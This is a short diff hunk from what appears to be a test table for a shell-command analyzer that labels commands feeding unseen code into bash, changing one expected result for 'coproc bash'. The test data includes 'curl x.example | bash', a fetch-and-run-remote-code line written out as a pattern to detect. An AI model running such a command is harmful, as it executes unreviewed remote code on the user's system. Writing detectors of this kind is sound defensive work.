@@ -78,7 +78,7 @@ KINDS = [
     # code that nobody has seen
     ("curl x.example | bash", ["curl x.example", "bash <- pipe curl", "[bash] opaque unseen-code"]),
     ("cat f | bash", ["cat f", "bash <- pipe cat", "[bash] opaque unseen-code"]),
-    ("coproc bash", ["bash", "[bash] opaque unseen-code"]),
+    ("coproc bash", ["bash <- pipe ?", "[bash] opaque unseen-code"]),
     (
         "f() { bash; }; curl x.example | f",
         [
